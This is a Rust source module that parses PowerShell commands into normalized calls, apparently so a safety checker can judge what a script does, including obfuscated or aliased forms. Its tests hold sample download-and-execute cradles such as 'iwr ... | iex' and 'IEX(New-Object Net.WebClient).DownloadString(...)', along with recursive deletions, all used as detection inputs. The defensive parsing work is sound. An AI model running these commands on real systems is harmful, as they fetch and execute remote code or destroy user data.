//! PowerShell: cmdlets by their full names, methods, and programs.
//!
//! A cmdlet is a call of its name in lower case (`remove-item`), and its parameters are options (`--recurse`). A static
//! method is a call of its type and name (`io.file.delete`); the name of a method of a value begins with a dot.

mod names;
mod words;

use super::windows::{MAX_DEPTH, argument, run};
use super::{Call, Slice, Text, value};
use crate::judge::analysis::act::Value;
use words::{Item, PowerShellWord};

/// Parses a script or command.
pub fn read(text: Slice<'_>, home: &str) -> Vec<Call> {
    let mut reader = PowerShellReader { home, calls: Vec::new(), depth: 0 };
    reader.script(text);
    reader.calls
}

struct PowerShellReader<'a> {
    home: &'a str,
    calls: Vec<Call>,
    depth: usize,
}

impl PowerShellReader<'_> {
    fn script(&mut self, text: Slice<'_>) {
        if self.depth >= MAX_DEPTH || self.calls.len() > super::MAX_CALLS {
            self.calls.push(Call::new("unknown".to_owned(), Vec::new()));
            return;
        }
        self.depth += 1;
        let mut piped: Option<Text> = None;
        for item in words::items(text) {
            match item {
                Item::Inside(text) => self.script(text.slice()),
                Item::Method { name, args } => self.method(&name, args.slice()),
                Item::Command { words, called, piped: fed } => {
                    let before = if fed { piped.take() } else { None };
                    piped = match words.as_slice() {
                        [only] if only.quoted && !called && !only.text.has_gaps() => Some(only.text.clone()),
                        _ => None,
                    };
                    self.command(&words, called, before.as_ref());
                }
                Item::Output { file, append } => {
                    let callee = if append { "add-content" } else { "out-file" };
                    let args = vec![argument(&file.text, self.home)];
                    self.calls.push(Call::new(callee.to_owned(), args));
                }
            }
        }
        self.depth -= 1;
    }

    fn method(&mut self, name: &str, args: Slice<'_>) {
        let lower = name.to_ascii_lowercase();
        let callee = match lower.rsplit_once("::") {
            Some((kind, method)) => {
                let kind = kind.trim_start_matches(['[', '(']).trim_end_matches([']', ')']);
                let kind = kind.strip_prefix("system.").unwrap_or(kind);
                format!("{kind}.{method}")
            }
            None => match lower.rsplit_once('.') {
                Some((_, method)) => format!(".{method}"),
                None => return,
            },
        };
        let args = words::list(args).iter().map(|word| argument(&word.text, self.home)).collect();
        self.calls.push(Call::new(callee, args));
    }

    fn command(&mut self, words: &[PowerShellWord], called: bool, piped: Option<&Text>) {
        let (words, called) = without_keywords(words, called);
        let Some((first, rest)) = words.split_first() else { return };
        let lower = first.text.rough().to_ascii_lowercase();
        if first.text.has_gaps() {
            // A value alone is printed; with the call operator it is a command.
            if called && !self.is_path(first.text.rough()) {
                self.calls.push(Call::new("unknown".to_owned(), Vec::new()));
            }
            return;
        }
        if !called && (first.quoted || lower.starts_with(['[', '-', '@', '+', '!', ',', '=']) || is_number(&lower)) {
            return;
        }
        let name = names::full(&lower);
        if name == "invoke-expression" {
            let given = rest.iter().find(|word| !word.is_parameter()).map(|word| &word.text).or(piped);
            match given.filter(|text| !text.has_gaps()) {
                Some(text) => self.script(text.slice()),
                None => self.calls.push(Call::new(name.to_owned(), Vec::new())),
            }
            return;
        }
        if name == "start-process" {
            self.started(rest);
        }
        if names::is_cmdlet(name) {
            let args = rest.iter().map(|word| self.parameter(word)).collect();
            self.calls.push(Call::new(name.to_owned(), args));
        } else {
            self.calls.push(run(words.iter().map(|word| word.text.slice())));
        }
    }

    fn is_path(&self, text: &str) -> bool {
        text.contains(['/', '\\']) && !text.ends_with('\0')
    }

    /// Returns a parameter as an option, and another word as an operand.
    fn parameter(&self, word: &PowerShellWord) -> Value {
        if !word.is_parameter() {
            return argument(&word.text, self.home);
        }
        let text = word.text.slice().cut(|text| text.trim_start_matches('-'));
        let (name, given) =
            text.two(|text| text.split_once(':')).map_or((text, None), |(name, given)| (name, Some(given)));
        let mut option = Text::joined(["--".into(), Text::from(name).to_lower().slice()]);
        if let Some(given) = given {
            option.push_text("=");
            option.push_text(given);
        }
        value(&option).into_option()
    }

    /// Adds the program that `Start-Process` starts.
    fn started(&mut self, words: &[PowerShellWord]) {
        let mut given: Vec<&Text> = Vec::new();
        let mut rest = words.iter();
        while let Some(word) = rest.next() {
            if !word.is_parameter() {
                given.push(&word.text);
                continue;
            }
            let name = word.text.rough().to_ascii_lowercase();
            let takes = ["-file", "-arg", "-verb", "-work", "-window", "-redirect", "-cred"];
            if let Some(takes) = takes.iter().find(|takes| name.starts_with(*takes)) {
                let next = rest.next();
                match (*takes, next) {
                    ("-file", Some(next)) => given.insert(0, &next.text),
                    ("-arg", Some(next)) => given.push(&next.text),
                    _ => {}
                }
            }
        }
        let Some((program, args)) = given.split_first() else { return };
        if program.has_gaps() {
            return;
        }
        let words = args.iter().flat_map(|text| text.rough().split_whitespace().map(|word| text.slice().part(word)));
        self.calls.push(run(std::iter::once(program.slice()).chain(words)));
    }
}

/// Skips keywords (`if`, `else`) and the dot operator. Returns the command, and whether it has the call operator.
fn without_keywords(mut words: &[PowerShellWord], mut called: bool) -> (&[PowerShellWord], bool) {
    while let Some((first, rest)) = words.split_first() {
        let lower = first.text.rough().to_ascii_lowercase();
        if first.quoted || called {
            break;
        }
        if lower == "." {
            called = true;
        } else if !names::is_keyword(&lower) {
            break;
        }
        // The name of a function is not a command.
        let named = lower == "function" || lower == "filter";
        words = if named { rest.get(1..).unwrap_or_default() } else { rest };
    }
    (words, called)
}

fn is_number(text: &str) -> bool {
    text.starts_with(|c: char| c.is_ascii_digit()) && text.chars().all(|c| c.is_ascii_alphanumeric() || c == '.')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seen(text: &str) -> Vec<String> {
        let args = |call: &Call| call.args.iter().map(|arg| arg.rough().into_owned()).collect::<Vec<_>>().join(", ");
        read(text.into(), "/home/dev").iter().map(|call| format!("{}({})", call.callee, args(call))).collect()
    }

    #[test]
    fn cmdlets_are_read_under_every_name() {
        assert_eq!(
            seen(r"Remove-Item -Recurse -Force C:\Users\dev"),
            ["remove-item(--recurse, --force, /mnt/c/Users/dev)"]
        );
        assert_eq!(seen(r"ri -r -fo C:\x"), ["remove-item(--r, --fo, /mnt/c/x)"]);
        assert_eq!(seen("Re`move-Item x"), ["remove-item(x)"]);
        assert_eq!(seen("& ('Remove'+'-Item') -Recurse x"), ["remove-item(--recurse, x)"]);
        assert_eq!(seen("& 'Remove-Item' x"), ["remove-item(x)"]);
        assert_eq!(seen("rm a, b"), ["remove-item(a, b)"]);
    }

    #[test]
    fn text_that_is_printed_is_no_command() {
        assert_eq!(seen("Write-Output 'Remove-Item -Recurse'"), ["write-output(Remove-Item -Recurse)"]);
        assert_eq!(seen("\"Remove-Item x\""), [""; 0]);
        assert_eq!(seen("# Remove-Item x"), [""; 0]);
        assert_eq!(seen("<# Remove-Item x #> Get-Date"), ["get-date()"]);
    }

    #[test]
    fn commands_are_read_in_blocks_pipelines_and_brackets() {
        assert_eq!(seen("if (Test-Path x) { del x }"), ["test-path(x)", "remove-item(x)"]);
        assert_eq!(seen("gci -r | % { ri $_ }"), ["get-childitem(--r)", "foreach-object()", "remove-item(\u{fffc})"]);
        assert_eq!(seen("$x = Get-Content a; Stop-Service $x"), ["get-content(a)", "stop-service(\u{fffc})"]);
        assert_eq!(seen("\"$(Remove-Item x)\""), ["remove-item(x)"]);
    }

    #[test]
    fn code_made_of_text_is_read_where_it_is_known() {
        assert_eq!(seen("iex 'ri x'"), ["remove-item(x)"]);
        assert_eq!(seen("'ri x' | iex"), ["remove-item(x)"]);
        assert_eq!(
            seen("iwr https://e.test/x.ps1 | iex"),
            ["invoke-webrequest(https://e.test/x.ps1)", "invoke-expression()"]
        );
        assert_eq!(
            seen("IEX(New-Object Net.WebClient).DownloadString('http://e.test/a')"),
            ["new-object(Net.WebClient)", ".downloadstring(http://e.test/a)", "invoke-expression()"]
        );
    }

    #[test]
    fn methods_and_programs_are_read() {
        assert_eq!(seen(r"[System.IO.File]::Delete('C:\x')"), ["io.file.delete(/mnt/c/x)"]);
        assert_eq!(seen("git reset --hard"), ["run(git reset --hard)"]);
        assert_eq!(
            seen("Start-Process cmd -ArgumentList '/c del x'"),
            ["run(cmd /c del x)", "start-process(cmd, --argumentlist, /c del x)"]
        );
        assert_eq!(seen("'x' > a.txt"), ["out-file(a.txt)"]);
        assert_eq!(seen("& $x -Recurse"), ["unknown()"]);
    }

    #[test]
    fn what_is_nested_without_end_is_read_as_far_as_it_goes() {
        for text in ["(".repeat(50_000), "$(".repeat(50_000), "if ".repeat(50_000), "(".repeat(5_000) + "ri x"] {
            let _ = read((&text).into(), "/home/dev");
        }
        assert_eq!(seen(&("if ".repeat(100) + "ri x")), ["remove-item(x)"]);
    }
}
